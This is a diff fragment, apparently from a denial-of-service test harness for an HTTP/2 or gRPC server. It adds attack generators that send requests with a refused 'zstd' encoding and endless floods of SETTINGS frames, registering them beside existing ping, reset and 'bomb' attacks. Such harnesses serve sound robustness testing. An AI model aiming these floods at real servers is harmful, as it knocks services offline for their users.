@@ -107,9 +107,18 @@ def refused_streams(sender):
     return calls(sender, lambda stream: b"")
 
 
+def refused_encodings(sender):
+    return calls(sender, whole, first_of(last=indexed("grpc-encoding", "zstd")), again=b"\x83\x86\xc2\xc1\xc0\xbf\xbe")
+
+
 def pings(sender):
     while True:
         yield frame(PING, 0, 0, b"12345678") * 500
+
+
+def settings_frames(sender):
+    while True:
+        yield frame(SETTINGS, 0, 0, settings(window=65535)) * 500
 
 
 # ---- Heads that cost more than their size
@@ -310,7 +319,9 @@ ATTACKS = {
     "refused_long_paths_unread": Attack(refused_long_paths),
     "refused_types_unread": Attack(refused_types),
     "refused_streams_unread": Attack(refused_streams),
+    "refused_encodings_unread": Attack(refused_encodings),
     "pings_unread": Attack(pings),
+    "settings_unread": Attack(settings_frames),
     "resets_unread_16": Attack(resets, connections=16),
     "refused_paths_unread_16": Attack(refused_paths, connections=16),
     "bombs_16": Attack(bombs, connections=16),
